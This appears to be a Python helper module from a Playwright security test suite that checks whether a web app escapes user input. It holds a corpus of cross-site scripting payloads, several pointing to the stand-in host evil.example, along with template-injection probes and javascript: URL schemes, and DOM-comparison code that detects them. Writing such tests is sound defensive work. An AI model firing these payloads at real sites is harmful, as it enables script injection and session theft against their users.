"""Markup that becomes something else than text wherever a page forgets to escape it (attacks C12, C14, C16)."""

import re
from collections.abc import Sequence

from playwright.sync_api import Page

CORPUS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus="',
    "' onfocus=alert(1) autofocus='",
    "\" onmouseover='alert(1)' x=\"",
    "` onmouseover=alert(1) x=`",
    "x onerror=alert(1) y",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "</form><form action=//evil.example><input name=p>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</style></noscript></template><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#x3e;",
)
PRODUCT = "13371337"
"""What a template language would make of the texts below; no identifier has it in it."""

TEMPLATES = (
    "{{1337*10001}}",
    "{{ '1337' ~ '1337' }}",
    "{% if 1 %}1337{% endif %}1337",
    "1337{# x #}1337",
    "${1337*10001}",
    "#{1337*10001}",
    "<%= 1337*10001 %>",
    "{{ config.update(x=1337*10001) }}{{ config.x }}",
)
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https:evil.example",
)

HOME = "http://localhost/"

ACTIVE = re.compile(
    r"\b(iframe|object|embed|img|video|source|style|base|math|animate|mglyph)\["
    r"|[\[,](on\w+|srcdoc|formaction)\b",
    re.IGNORECASE,
)
"""Tags and attributes that no page of either app has, in a tree."""

SKELETON = """
html => {
  const inside = node => node instanceof HTMLTemplateElement ? [...node.content.children] : [...node.children];
  const names = node => [...node.attributes].map(each => each.name).sort();
  const walk = node => `${node.tagName}[${names(node)}](${inside(node).map(walk)})`;
  return walk(new DOMParser().parseFromString(html, "text/html").documentElement);
}
"""
"""A function of JavaScript: the tree that the browser makes of a page's text, tags and names of attributes alone."""

LINKS = """
html => [...new DOMParser().parseFromString(html, "text/html").querySelectorAll("*")]
  .flatMap(each => ["href", "src", "action", "formaction"].map(name => each.getAttribute(name)))
  .filter(value => value !== null)
  .map(value => { try { return new URL(value, "http://localhost/").href } catch { return "none:" + value } })
"""
"""Every address that a page's text leads to, as the browser reads it."""


def harmless(text: str) -> str:
    """A text of the same length and words that cannot be markup; another for another text."""
    plain = f"{sum(text.encode())}{'x' * len(text)}"
    return "".join(" " if there == " " else here for there, here in zip(text, plain, strict=False))


def trees(parser: Page, pages: Sequence[str]) -> list[str]:
    """The tree of each page as the browser sees it."""
    return [parser.evaluate(SKELETON, page) for page in pages]


def first_difference(one: str, other: str) -> str:
    """Where two trees part; nothing when they do not."""
    at = next((at for at, (a, b) in enumerate(zip(one, other, strict=False)) if a != b), min(len(one), len(other)))
    return "" if one == other else f"{one[at - 40 : at + 80]} and not {other[at - 40 : at + 80]}"
